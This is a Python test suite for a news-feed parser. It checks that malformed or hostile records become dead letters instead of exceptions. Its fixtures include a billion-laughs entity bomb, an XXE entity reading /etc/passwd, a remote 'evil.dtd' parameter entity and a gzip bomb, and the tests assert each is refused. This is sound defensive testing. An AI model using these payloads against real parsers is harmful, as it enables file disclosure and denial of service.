"""Parse stage on bad and hostile input: one clear dead letter, never an exception."""

from __future__ import annotations

import bz2
import datetime as dt
import gzip
import hashlib
import io
import json
import lzma
import tarfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from schemas.records import RAW_EXCERPT_LIMIT, DeadLetter, RawRecord, Story
from transforms.parse import parse_record

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO / "tests" / "fixtures"
SEEDS = REPO / "seeds"
NOW = dt.datetime(2025, 1, 2, tzinfo=dt.timezone.utc)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<nitf><body><body.content><p>&lol4;</p></body.content></body></nitf>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&xxe;</p></body.content></body></nitf>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<nitf><body><body.content><p>x</p></body.content></body></nitf>"""


def parse(data: bytes, **kwargs) -> list:
  max_story_bytes = kwargs.pop("max_story_bytes", 5_000_000)
  raw = RawRecord(uri="mem://bad", data=data, **kwargs)
  return list(parse_record(raw, max_story_bytes=max_story_bytes, now=NOW))


def only_dead(outs: list) -> DeadLetter:
  assert len(outs) == 1, outs
  assert isinstance(outs[0], DeadLetter), outs[0]
  dead = outs[0]
  assert dead.stage == "parse" and dead.message
  assert dead.error_time == NOW
  return dead


@pytest.mark.parametrize("data, error_type", [
    (BILLION_LAUGHS, "EntitiesForbidden"),
    (EXTERNAL_ENTITY, "EntitiesForbidden"),
    (PARAMETER_ENTITY, "EntitiesForbidden"),
    (b"<nitf><body><body.content><p>cut off in the mid", "ParseError"),
    (b"<?xml version='1.0'?><newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'><itemMeta>", "ParseError"),
    (b"<html><body><p>a web page</p></body></html>", "UnsupportedFormat"),
    (b"", "EmptyRecord"),
    (b"  \n\t\n", "EmptyRecord"),
    (b'{"headline": "caf\xe9 au lait", "body": "text"}', "UnicodeDecodeError"),
    (b"Plain text with a broken byte \xff\xfe\xfd in it", "UnicodeDecodeError"),
    (b"42", "JSONShapeError"),
    (b'"just a string"', "JSONShapeError"),
    (b"null", "JSONShapeError"),
    (b"-- 1234 --", "NoTextContent"),
    (b"[1, 2]", None),
    (b"[]", "EmptyRecord"),
    (b'{"foo": 1, "bar": [2]}', "NoTextContent"),
    (b'{"headline": "x", "body": "y"', "JSONDecodeError"),
    (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "EOFError"),
    (b"\x00\x01\x02\x03\x04\x05\x06\x07\x08" * 20, "UnsupportedFormat"),
    (b"<!DOCTYPE lewis SYSTEM 'lewis.dtd'>\n<REUTERS NEWID='1'><TEXT>never closed", "TruncatedRecord"),
])
def test_bad_records_become_one_clear_dead_letter(data, error_type):
  outs = parse(data)
  if error_type is None:  # an array of numbers: one dead letter per element
    assert [o.error_type for o in outs] == ["JSONShapeError", "JSONShapeError"]
    assert [o.locator for o in outs] == ["record:1", "record:2"]
    return
  dead = only_dead(outs)
  assert dead.error_type == error_type, (dead.error_type, dead.message)
  assert dead.raw_sha256 == hashlib.sha256(dead.raw_excerpt).hexdigest() or dead.raw_truncated is False
  assert dead.raw_size >= len(dead.raw_excerpt)


def test_numbers_and_strings_are_json_shape_errors_when_hinted():
  assert only_dead(parse(b"42", format_hint="json")).error_type == "JSONShapeError"
  assert only_dead(parse(b'"s"', format_hint="json")).error_type == "JSONShapeError"


def test_entity_bomb_message_and_excerpt():
  dead = only_dead(parse(BILLION_LAUGHS))
  assert "lol" in dead.message
  assert dead.raw_excerpt == BILLION_LAUGHS and dead.raw_size == len(BILLION_LAUGHS)
  assert dead.raw_sha256 == hashlib.sha256(BILLION_LAUGHS).hexdigest()


def test_oversize_story_is_a_dead_letter_and_the_excerpt_is_bounded():
  body = ("WASHINGTON (Reuters) - " + "word " * 30_000).encode()
  dead = only_dead(parse(body, max_story_bytes=100_000))
  assert dead.error_type == "StoryTooLarge"
  assert "100000" in dead.message
  assert dead.raw_size == len(body) and dead.raw_truncated
  assert len(dead.raw_excerpt) == RAW_EXCERPT_LIMIT


def test_oversize_line_in_jsonl_fails_alone():
  small = json.dumps({"id": "1", "title": "Small", "body": "Fine story."})
  big = json.dumps({"id": "2", "title": "Big", "body": "x " * 5000})
  outs = parse(f"{small}\n{big}\n".encode(), max_story_bytes=2000)
  assert isinstance(outs[0], Story)
  assert isinstance(outs[1], DeadLetter) and outs[1].error_type == "StoryTooLarge"
  assert outs[1].locator == "line:2"


def test_gzip_bomb_is_refused():
  bomb = gzip.compress(b"a" * 3_000_000, mtime=0)
  dead = only_dead(parse(bomb, max_story_bytes=100_000))
  assert dead.error_type == "RecordTooLarge"
  assert dead.raw_excerpt == bomb[:RAW_EXCERPT_LIMIT]


def test_truncated_gzip():
  data = gzip.compress((SEEDS / "000_2caeb3c1602a667c.txt").read_bytes(), mtime=0)
  assert only_dead(parse(data[: len(data) // 2])).error_type == "EOFError"


def test_wrong_shape_json_elements_in_an_array():
  outs = parse(b'[{"title": "Good", "body": "A story."}, "text", [1]]')
  assert isinstance(outs[0], Story)
  assert [o.error_type for o in outs[1:]] == ["JSONShapeError", "JSONShapeError"]


def test_pubsub_message_dead_letter_keeps_message_id_and_attributes():
  dead = only_dead(parse(b"", locator="msg:9", message_id="9", attributes={"k": "v"}))
  assert dead.locator == "msg:9" and dead.message_id == "9" and dead.attributes == {"k": "v"}
  assert dead.input_uri == "mem://bad"


def test_nitf_with_bare_external_dtd_reference_parses_without_fetching():
  data = (b'<?xml version="1.0"?>\n<!DOCTYPE nitf SYSTEM "http://example.invalid/nitf-3-2.dtd">\n'
          b"<nitf><body><body.content><p>OSLO (NTB) - Text.</p></body.content></body></nitf>")
  (story,) = parse(data)
  assert isinstance(story, Story) and story.dateline == "OSLO (NTB)"


# --------------------------------------------------------------------------- property tests

_FIXTURE_BYTES = [p.read_bytes() for p in sorted(FIXTURES.iterdir()) if p.is_file() and p.stat().st_size < 20_000]
_FIXTURE_BYTES += [p.read_bytes() for p in sorted(SEEDS.iterdir())]


def _check_never_raises(data: bytes, hint=None) -> None:
  outs = list(parse_record(RawRecord(uri="mem://fuzz", data=data, format_hint=hint), now=NOW))
  assert len(outs) >= 1
  for out in outs:
    assert isinstance(out, (Story, DeadLetter))
    if isinstance(out, Story):
      assert out.body or out.headline
      assert len(out.story_id) == 32
    else:
      assert out.stage == "parse" and out.error_type


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048), st.sampled_from([None, None, "plain", "json", "jsonl", "ninjs", "nitf",
                                                  "newsml", "reuters-sgml"]))
def test_random_bytes_never_raise(data, hint):
  _check_never_raises(data, hint)


@st.composite
def mutated_fixture(draw):
  data = bytearray(draw(st.sampled_from(_FIXTURE_BYTES)))
  if data[:2] == b"\x1f\x8b" and draw(st.booleans()):
    data = bytearray(gzip.decompress(bytes(data)))
  for _ in range(draw(st.integers(1, 8))):
    op = draw(st.sampled_from(["flip", "insert", "delete", "truncate"]))
    pos = draw(st.integers(0, max(0, len(data) - 1)))
    if op == "flip" and data:
      data[pos] = draw(st.integers(0, 255))
    elif op == "insert":
      data[pos:pos] = draw(st.sampled_from([b"<", b">", b"&", b"&#3;", b'"', b"{", b"]", b"\n", b"\xff",
                                            b"<!ENTITY a 'b'>", b"</REUTERS>", b"<REUTERS NEWID=\"7\">",
                                            b"\x1f\x8b"]))
    elif op == "delete" and data:
      del data[pos:pos + draw(st.integers(1, 64))]
    elif op == "truncate":
      del data[pos:]
  return bytes(data)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_fixture())
def test_mutated_fixtures_never_raise(data):
  _check_never_raises(data)


@settings(max_examples=100, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=30),
                    lambda kids: st.lists(kids, max_size=4) | st.dictionaries(
                        st.sampled_from(["id", "title", "body", "headlines", "bodies", "version", "language",
                                         "published", "uri", "type", "value", "role", "by", "subjects"]),
                        kids, max_size=6),
                    max_leaves=20))
def test_arbitrary_json_never_raises(value):
  _check_never_raises(json.dumps(value).encode())


@pytest.mark.parametrize("data", [
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b"<newsMessage><itemSet><newsItem>" + b"<b>" * 30_000 + b"</b>" * 30_000 + b"</newsItem></itemSet></newsMessage>",
])
def test_deep_nesting_is_a_dead_letter(data):
  dead = only_dead(parse(data))
  assert dead.error_type == "RecursionError"


def test_many_unterminated_reuters_elements_each_accounted_for():
  data = b"<REUTERS NEWID=\"1\"><TEXT>a" + b"<REUTERS NEWID=\"2\"><TEXT><BODY>b</BODY></TEXT></REUTERS>"
  outs = parse(data)
  assert [(type(o).__name__, o.locator) for o in outs] == [("DeadLetter", "newid:1"), ("Story", "newid:2")]
  assert outs[0].error_type == "TruncatedRecord"


def _tar(members: dict[str, bytes]) -> bytes:
  buffer = io.BytesIO()
  with tarfile.open(fileobj=buffer, mode="w") as tar:
    for name, data in members.items():
      info = tarfile.TarInfo(name)
      info.size = len(data)
      tar.addfile(info, io.BytesIO(data))
  return buffer.getvalue()


_WIRE = b"WASHINGTON (Reuters) - The Senate passed the bill on Tuesday.\n"

NOT_STORIES = {
    "prices.csv": (b"date,ticker,close\n2024-01-02,ABC,10.5\n2024-01-03,ABC,10.7\n", "table"),
    "prices.tsv": (b"date\tticker\tclose\n2024-01-02\tABC\t10.5\n", "table"),
    "notes.md": (b"# Release notes\n\nThe pipeline now reads NITF.\n\n## Fixes\n\n- faster\n", "Markdown"),
    "table.md": (b"Prices this week.\n\n| day | close |\n|---|---|\n| Mon | 10 |\n", "Markdown"),
    "photo.png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "PNG image"),
    "photo.jpg": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64), "JPEG image"),
    "scan.pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF document"),
    "photo.png.gz": (gzip.compress(b"\x89PNG\r\n\x1a\n" + bytes(64)), "PNG image"),
    "headerless.csv": (b'"3","Wall St. Bears Claw Back","Reuters - Short-sellers are seeing green again."\n'
                       b'"2","Carlyle Looks Toward Aerospace","Reuters - Private investment firm Carlyle."\n', "table"),
    "stories.tar": (_tar({"story.txt": _WIRE}), "tar archive"),
    "stories.tar.gz": (gzip.compress(_tar({"story.txt.gz": gzip.compress(_WIRE)})), "tar archive"),
    "story.txt.bz2": (bz2.compress(_WIRE), "bzip2 archive"),
    "story.txt.xz": (lzma.compress(_WIRE), "xz archive"),
}


@pytest.mark.parametrize("name", sorted(NOT_STORIES))
def test_files_that_are_not_stories_are_dead_letters(name):
  data, what = NOT_STORIES[name]
  [out] = list(parse_record(RawRecord(uri=f"/in/{name}", data=data), now=NOW))
  assert isinstance(out, DeadLetter), out
  assert out.error_type == "NotAStory" and what in out.message
  assert out.raw_excerpt == data[:RAW_EXCERPT_LIMIT]


@pytest.mark.parametrize("text", [
    "Oil rises, traders say\nLONDON (Reuters) - Oil rose on Monday, traders said\n",
    "LONDON (Reuters) - Shares rose on Monday.\nTraders said so.\n",
    "Markets close higher\n\nNEW YORK (AP) - Stocks rose, led by banks, and bonds fell, too.\n\n"
    "Investors bought tech shares; energy lagged.\n",
    "PARIS, March 3 (AFP) - France said on Monday it would act.\n\n# of votes: 12\n",
])
def test_plain_wire_stories_still_parse(text):
  [out] = list(parse_record(RawRecord(uri="/in/story.txt", data=text.encode()), now=NOW))
  assert isinstance(out, Story), out


def test_plain_samples_still_parse():
  for path in [*SEEDS.iterdir(), FIXTURES / "plain_headline.txt"]:
    outs = list(parse_record(RawRecord(uri=str(path), data=path.read_bytes()), now=NOW))
    assert outs and all(isinstance(out, Story) for out in outs), (path, outs)


def test_a_format_hint_overrides_the_not_a_story_checks():
  data = b"date,ticker,close\n2024-01-02,ABC,10.5\n"
  [out] = list(parse_record(RawRecord(uri="m", data=data, format_hint="plain"), now=NOW))
  assert isinstance(out, Story)
